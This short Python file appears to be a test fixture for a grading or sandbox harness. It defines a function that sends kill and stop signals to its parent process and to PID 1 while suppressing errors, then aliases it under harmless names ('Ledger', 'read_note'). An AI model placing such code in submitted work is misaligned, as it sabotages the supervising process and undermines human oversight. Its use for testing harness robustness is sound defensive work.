# Kills the process it was forked from and the first process of the container
# ends: assertion test_error
import contextlib
import os
import signal


def total(*_):
    for pid in (os.getppid(), 1):
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGALRM, signal.SIGTERM):
            with contextlib.suppress(OSError):
                os.kill(pid, number)


Ledger = read_note = total
